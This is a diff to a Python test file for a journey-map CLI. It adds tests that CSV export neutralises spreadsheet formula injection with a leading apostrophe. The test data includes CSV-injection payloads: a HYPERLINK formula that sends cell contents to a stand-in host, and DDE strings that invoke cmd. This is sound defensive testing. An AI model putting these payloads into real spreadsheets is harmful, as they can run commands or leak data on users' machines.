@@ -16,6 +16,7 @@ from typing import Any
 import pytest
 import yaml
 
+from journeys.export import restore_formula
 from journeys.format.slug import is_id, slugify
 from nasty_strings import NASTY_STRINGS
 from sitekit import REPO, journeys_cli
@@ -236,11 +237,14 @@ def test_unicode_and_hostile_text_round_trips_through_json_and_csv(tmp_path: Pat
     assert result.returncode == 0, result.stderr
     steps = {s["id"]: s for s in json.loads(result.stdout)["steps"]}
     rows = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv").stdout)}
+    raw = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv", "--raw-text").stdout)}
     for i, value in enumerate(texts):
         assert steps[f"s{i}"]["action"] == value
         assert steps[f"s{i}"]["thought"] == value
-        assert rows[f"s{i}"]["action"] == value
-        assert rows[f"s{i}"]["thought"] == value
+        # Neutralised for spreadsheets, exactly undone by a reader; raw with --raw-text.
+        assert restore_formula(rows[f"s{i}"]["action"]) == value
+        assert restore_formula(rows[f"s{i}"]["thought"]) == value
+        assert raw[f"s{i}"]["action"] == value
         assert rows[f"s{i}"]["actors"] == 'Zoë, the "parent"'
         assert rows[f"s{i}"]["stage_name"] == "Stage; with: punctuation"
     assert len(rows) == len(texts)
@@ -268,3 +272,48 @@ def test_export_reads_the_journeys_dir_of_mkdocs_yml(tmp_path: Path) -> None:
     assert len(json.loads(result.stdout)["journeys"]) == len(
         SourceCounts(tmp_path / "maps").journeys
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("https://x.example/?"&A1, "click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1 already quoted",
+]
+
+
+def test_csv_neutralises_formulas_as_owasp_advises(tmp_path: Path) -> None:
+    """A text that starts with = + - @, a tab or CR would run as a formula in a spreadsheet:
+    it is written after an apostrophe, unless --raw-text asks for the text as it is."""
+    journey = {
+        "title": "=1+1",
+        "persona": "zoe",
+        "stages": [
+            {
+                "name": "@stage",
+                "steps": [
+                    {"action": value, "id": f"s{i}", "emotion": 3, "pains": [value]}
+                    for i, value in enumerate(FORMULAS)
+                ]
+                + [{"action": "-1", "id": "number", "emotion": 3}],
+            }
+        ],
+    }
+    folder = tmp_path / "journeys"
+    (folder / "personas").mkdir(parents=True)
+    (folder / "personas/zoe.md").write_text("---\nname: Zoë\n---\n", encoding="utf-8")
+    (folder / "f.md").write_text(f"---\n{yaml.safe_dump(journey)}---\n", encoding="utf-8")
+    rows = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv").stdout)}
+    for i, value in enumerate(FORMULAS):
+        assert rows[f"s{i}"]["action"] == "'" + value
+    assert rows["s0"]["journey_title"] == "'=1+1" and rows["s0"]["stage_name"] == "'@stage"
+    assert rows["number"]["action"] == "-1"  # a plain number is no formula
+    pains = read_csv(export(tmp_path, "--format", "csv", "--table", "pain-points").stdout)
+    assert len(pains) >= 5 and all(p["text"][:1] == "'" for p in pains)  # some share an id
+    raw = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv", "--raw-text").stdout)}
+    assert [raw[f"s{i}"]["action"] for i in range(len(FORMULAS))] == FORMULAS
+    refused = export(tmp_path, "--raw-text")
+    assert refused.returncode == 2 and b"--raw-text goes with --format csv" in refused.stderr
